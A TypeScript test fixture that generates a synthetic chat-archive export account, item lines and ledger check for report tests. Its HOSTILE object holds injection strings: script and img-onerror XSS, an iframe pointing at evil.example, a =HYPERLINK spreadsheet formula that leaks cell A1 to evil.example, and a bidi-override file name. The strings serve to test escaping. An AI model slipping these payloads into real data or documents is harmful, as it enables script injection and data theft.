// A realistic export account and ledger check, built by hand for the report tests: one day of
// a firm's chats, 30 mailboxes, three runs (the first killed part-way, the second resuming it and
// failing two pairs, the third re-running and delivering those two), some rejects; and strings
// a hostile archive could carry in item ids, details, mailboxes and file names.
import { countProblem, type ExportAccount, type ItemLine, type ItemProblem, type LedgerCheck, type MailboxAccount, type RunOfExport } from '../../src/ledger/account.js';

/** Strings from a hostile archive: markup, quotes, `&`, a bidi override (U+202E), a formula. */
export const HOSTILE = {
  itemId: 'm_<script>alert("x")</script>&amp;\'"\u202Egnp.exe',
  detail: 'field "sentAt" is <img src=http://evil.example/x.png onerror=alert(1)> & not a date',
  conversationId: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  mailbox: "o'brien&co<b>@acme.example",
  reason: 'plugin:<b onclick="x()">evil</b>',
  kept: 'pivot-rejects/acme-2026-11-23/m_<script>/event.json',
  host: 'host"><iframe src="//evil.example">',
  formulaItemIds: ['+1+1', '-2+3', '@SUM(A1:A9)', '\tindent', '\rcr'],
} as const;

/** The same fields as an ordinary day has them (for a picture of the report in the docs). */
const PLAIN = {
  itemId: 'm_200050',
  detail: 'sentAt "23/11/2026 14:02" is not an ISO 8601 time',
  conversationId: 'c_0005',
  mailbox: 'hugo.lefevre@acme.example',
  reason: 'plugin:redact-card-numbers',
  kept: 'pivot-rejects/acme-2026-11-23/m_200050/event.json',
  host: 'archive01',
  formulaItemIds: ['m_100000', 'm_100001', 'm_100002', 'm_100003', 'm_100004'],
} as const;

export const EXPORT_ID = 'acme-2026-11-23';
export const SHA = 'c0ffee'.padEnd(64, '0');
export const RUN_IDS = ['run-1-killed-6a1f', 'run-2-resumed-93bc', 'run-3-rerun-2d07'] as const;

/** A small deterministic generator, so the fixture (and the PNG of it) is the same every time. */
function random(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

export interface Fixture {
  account: ExportAccount;
  ledger: LedgerCheck;
  /** The item list for the CSV: one line per (mailbox, item) and per rejected item. */
  lines: ItemLine[];
}

export interface FixtureOptions {
  /** Leave out the third run: the two failed pairs stay failed (INCOMPLETE). */
  failed?: boolean;
  /** The archive's sha256 differed between runs. */
  archiveChanged?: boolean;
  /** Ordinary strings instead of the hostile ones. */
  plain?: boolean;
  /** Mailboxes (default 30). */
  mailboxes?: number;
  /** Extra rejected items (default 0), for size tests. */
  extraRejects?: number;
  ledger?: Partial<LedgerCheck>;
}

export function reportFixture(options: FixtureOptions = {}): Fixture {
  const rnd = random(20261123);
  const H = options.plain ? PLAIN : HOSTILE;
  const mailboxCount = options.mailboxes ?? 30;
  const names = ['alice.martin', 'bob.chen', 'carla.rossi', 'dev.patel', 'emma.schulz', 'farid.haddad', 'grace.okafor', 'hugo.lefevre', 'ines.costa', 'jon.berg'];
  const mailboxNames = Array.from({ length: mailboxCount }, (_, n) =>
    n === 7 ? H.mailbox : `${names[n % names.length]}${n >= names.length ? `.${Math.floor(n / names.length) + 1}` : ''}@acme.example`,
  );
  const lines: ItemLine[] = [];
  const problems: ItemProblem[] = [];
  const hours = new Map<string, { delivered: number; rejected: number; failed: number }>();
  const hourOf = (sentAt: string) => sentAt.slice(0, 13);
  const bump = (sentAt: string, kind: 'delivered' | 'rejected' | 'failed') => {
    const h = hours.get(hourOf(sentAt)) ?? { delivered: 0, rejected: 0, failed: 0 };
    h[kind]++;
    hours.set(hourOf(sentAt), h);
  };
  // Trading hours: most chat between 07:00 and 18:00 UTC, a peak at the open and after lunch.
  const sentAt = () => {
    const r = rnd();
    const hour = r < 0.04 ? 5 + Math.floor(rnd() * 2) : r > 0.97 ? 19 + Math.floor(rnd() * 3) : 7 + Math.floor(Math.min(10.99, Math.abs((rnd() + rnd() + rnd()) / 3 - 0.5) * 22));
    const minute = Math.floor(rnd() * 60);
    return `2026-11-23T${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')}:${String(Math.floor(rnd() * 60)).padStart(2, '0')}.000Z`;
  };

  // Runs: the first killed after about 40% of the pairs, the second did the rest but two failed,
  // the third re-ran the archive: everything else found present, the two delivered.
  const failedPairs: { mailbox: string; itemId: string; conversationId: string; sentAt: string }[] = [];
  const perRun = [
    { delivered: 0, skipped: 0, failed: 0, rejected: 0 },
    { delivered: 0, skipped: 0, failed: 0, rejected: 0 },
    { delivered: 0, skipped: 0, failed: 0, rejected: 0 },
  ];
  const mailboxes: MailboxAccount[] = mailboxNames.map((mailbox) => ({ mailbox, delivered: 0, skipped: 0, failed: 0, runs: [] }));
  const routed = 1187;
  let pairs = 0;
  for (let n = 0; n < routed; n++) {
    const itemId = n < H.formulaItemIds.length ? H.formulaItemIds[n]! : `m_${String(100000 + n)}`;
    const conversationId = n === 5 ? H.conversationId : `c_${String(Math.floor(n / 12)).padStart(4, '0')}`;
    const at = sentAt();
    const fan = 1 + Math.floor(rnd() * 3);
    const first = Math.floor(rnd() * mailboxCount);
    for (let k = 0; k < fan; k++) {
      const m = mailboxes[(first + k * 7) % mailboxCount]!;
      pairs++;
      const run = pairs < 1150 ? 0 : 1;
      const failing = (n === 400 && k === 0) || (n === 901 && k === 0);
      const runId = failing && !options.failed ? RUN_IDS[2] : RUN_IDS[run];
      if (!m.runs.includes(runId)) m.runs.push(runId);
      if (failing) {
        perRun[1]!.failed++;
        failedPairs.push({ mailbox: m.mailbox, itemId, conversationId, sentAt: at });
        if (options.failed) {
          m.failed++;
          bump(at, 'failed');
          lines.push({ itemId, conversationId, mailbox: m.mailbox, outcome: 'failed', reason: 'sink-error', runId: RUN_IDS[1], at: '2026-11-24T02:41:09.412Z', sentAt: at, messageId: `<${n}.pivot@acme.example>` });
          problems.push({
            itemId,
            conversationId,
            mailbox: m.mailbox,
            outcome: 'failed',
            reason: 'sink-error',
            detail: `ENOSPC: no space left on device, open '/srv/mail/${m.mailbox}/.INBOX.Pivot/tmp/1763866869.M412P3117.archive01'`,
            runId: RUN_IDS[1],
            at: '2026-11-24T02:41:09.412Z',
          });
          continue;
        }
        perRun[2]!.delivered++;
      } else {
        perRun[run]!.delivered++;
        if (!options.failed) perRun[2]!.skipped++;
      }
      m.delivered++;
      bump(at, 'delivered');
      const size = 1800 + Math.floor(rnd() * 6000);
      lines.push({
        itemId,
        conversationId,
        mailbox: m.mailbox,
        outcome: 'delivered',
        messageId: `<${n}.pivot@acme.example>`,
        sentAt: at,
        size,
        sha256: (n * 2654435761 + k).toString(16).padStart(64, 'a').slice(-64),
        location: `maildir:${m.mailbox}/.INBOX.Pivot/cur/17638${String(n).padStart(5, '0')}.M${k}P3117.archive01:2,`,
        runId: failing ? RUN_IDS[2] : RUN_IDS[run],
        at: failing ? '2026-11-24T07:12:44.001Z' : run === 0 ? '2026-11-24T02:05:31.000Z' : '2026-11-24T02:40:12.000Z',
      });
    }
  }

  // Rejects: kept in the rejects folder, but one the folder could not keep.
  const rejects: { itemId: string; reason: string; detail: string; kept?: string; run: number }[] = [
    { itemId: 'm_200017', reason: 'oversize', detail: 'message of 14.2 MiB is over --max-item-size 10MiB', run: 0 },
    { itemId: 'm_200018', reason: 'oversize', detail: 'message of 31.0 MiB is over --max-item-size 10MiB', run: 0 },
    { itemId: 'm_200019', reason: 'oversize', detail: 'message of 10.4 MiB is over --max-item-size 10MiB', run: 1 },
    { itemId: 'm_200030', reason: 'unmapped', detail: 'no participant of conversation c_0093 is in domain acme.example', run: 0 },
    { itemId: 'm_200031', reason: 'unmapped', detail: 'no participant of conversation c_0093 is in domain acme.example', run: 0 },
    { itemId: 'm_200032', reason: 'unmapped', detail: 'no participant of conversation c_0101 is in domain acme.example', run: 1 },
    { itemId: 'm_200033', reason: 'unmapped', detail: 'no participant of conversation c_0101 is in domain acme.example', run: 1 },
    { itemId: H.itemId, reason: 'invalid-field:sentAt', detail: H.detail, kept: H.kept, run: 1 },
    { itemId: 'm_200051', reason: 'missing-field:sentAt', detail: 'event has no sentAt', run: 1 },
    { itemId: 'm_200077', reason: 'duplicate-id', detail: 'id m_100077 was already used by an earlier event of this export', run: 1 },
    { itemId: 'm_200090', reason: H.reason, detail: 'plugin threw: TypeError: Cannot read properties of undefined', run: 1 },
  ];
  for (let n = 0; n < (options.extraRejects ?? 0); n++) rejects.push({ itemId: `m_9${String(n).padStart(7, '0')}`, reason: 'unmapped', detail: 'no participant is in domain acme.example', run: 1 });
  const rejectsByReason: Record<string, number> = {};
  let rejectedKept = 0;
  rejects.forEach((r, n) => {
    const at = sentAt();
    bump(at, 'rejected');
    rejectsByReason[r.reason] = (rejectsByReason[r.reason] ?? 0) + 1;
    perRun[r.run]!.rejected++;
    const runId = RUN_IDS[r.run];
    const when = r.run === 0 ? '2026-11-24T02:04:58.310Z' : '2026-11-24T02:39:50.120Z';
    const conversationId = `c_${String(90 + n).padStart(4, '0')}`;
    const notKept = options.failed === true && n === 9; // the duplicate: the rejects folder failed to keep it
    const kept = notKept ? undefined : (r.kept ?? `pivot-rejects/${EXPORT_ID}/${r.itemId}/event.json`);
    if (!notKept) rejectedKept++;
    problems.push({ itemId: r.itemId, conversationId, mailbox: null, outcome: notKept ? 'failed' : 'rejected', reason: notKept ? 'not-kept' : r.reason, detail: notKept ? `${r.detail}; keeping it failed: EACCES: permission denied, mkdir 'pivot-rejects/${EXPORT_ID}'` : r.detail, kept, runId, at: when });
    lines.push({ itemId: r.itemId, conversationId, mailbox: null, outcome: notKept ? 'failed' : 'rejected', reason: notKept ? 'not-kept' : r.reason, sentAt: at, kept, runId, at: when });
  });

  const delivered = mailboxes.reduce((s, m) => s + m.delivered, 0);
  const failed = mailboxes.reduce((s, m) => s + m.failed, 0);
  const runs: RunOfExport[] = [
    { runId: RUN_IDS[0], command: 'run', host: 'archive01', startedAt: '2026-11-24T02:00:00.120Z', ended: 'killed', archive: `/srv/pivot/in/pivot-${EXPORT_ID}.zip`, sha256: SHA, ...perRun[0]! },
    {
      runId: RUN_IDS[1],
      command: 'run',
      host: H.host,
      startedAt: '2026-11-24T02:38:02.877Z',
      finishedAt: '2026-11-24T02:41:10.005Z',
      ended: 'summary',
      exitCode: 1,
      problem: '2 (mailbox, item) pairs failed: ENOSPC',
      archive: `/srv/pivot/in/pivot-${EXPORT_ID}.zip`,
      sha256: options.archiveChanged ? 'beef'.padEnd(64, '1') : SHA,
      ...perRun[1]!,
    },
  ];
  if (!options.failed) {
    runs.push({ runId: RUN_IDS[2], command: 'run', host: 'archive01', startedAt: '2026-11-24T07:12:30.500Z', finishedAt: '2026-11-24T07:12:51.733Z', ended: 'summary', exitCode: 0, archive: `/srv/pivot/in/pivot-${EXPORT_ID}.zip`, sha256: SHA, ...perRun[2]! });
  }
  const rejectedNotKept = rejects.length - rejectedKept;
  const account: ExportAccount = {
    exportId: EXPORT_ID,
    tenant: 'acme',
    archive: `/srv/pivot/in/pivot-${EXPORT_ID}.zip`,
    sha256s: options.archiveChanged ? [SHA, 'beef'.padEnd(64, '1')] : [SHA],
    size: 48_213_770,
    eventsInArchive: routed + rejects.length,
    runs,
    items: { inArchive: routed + rejects.length, addedByPlugins: 0, rejectedKept, rejectedNotKept, routed, notYetRead: 0 },
    pairs: { total: pairs, delivered, skipped: 0, failed },
    balanced: true,
    unsealed: 0,
    complete: failed === 0 && rejectedNotKept === 0,
    rejectsByReason,
    mailboxes,
    problemCount: problems.reduce(countProblem, { total: 0, rejectedKept: 0, notKept: 0 }),
    problems,
    hours: [...hours.entries()].sort(([a], [b]) => (a < b ? -1 : 1)).map(([hour, h]) => ({ hour, ...h })),
  };
  const ledger: LedgerCheck = {
    path: '/var/lib/pivot-archive/ledger&co/ledger.jsonl',
    records: 1 + pairs + rejects.length + 2 + (options.failed ? 0 : 3) + 2,
    head: '3f9a'.padEnd(64, 'e'),
    chainIntact: true,
    checkpoints: options.failed ? 1 : 2,
    signature: 'verified',
    unsealed: 0,
    problems: [],
    ...options.ledger,
  };
  return { account, ledger, lines };
}
